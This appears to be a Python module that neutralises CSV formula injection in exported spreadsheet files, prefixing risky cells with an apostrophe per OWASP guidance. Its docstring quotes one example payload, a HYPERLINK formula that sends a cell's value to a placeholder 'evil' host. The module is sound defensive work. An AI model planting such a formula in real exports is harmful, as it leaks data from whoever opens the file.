"""Files people open in a spreadsheet: cells that cannot run as formulas.

A CSV or XLSX cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is taken by Excel, LibreOffice and Google Sheets as a formula; a pledge described
as ``=HYPERLINK("http://evil/?"&A1, "Details")`` would run on the ISU's or a donor's
machine. Following the OWASP guidance on CSV injection, such text is written with a
leading apostrophe (shown as text, the apostrophe hidden by spreadsheets); a plain number
written as text ("-5", "+3.5") cannot be a formula and is left as it is.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def is_formula_like(value: object) -> bool:
    """Text a spreadsheet would run as a formula."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and _NUMBER.fullmatch(value) is None
    )


def neutralise(value: Any) -> Any:
    """The cell as it is safe to write to a CSV file."""
    return f"'{value}" if is_formula_like(value) else value


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralised; ``writerow`` returns what ``write`` did."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(value) for value in row])
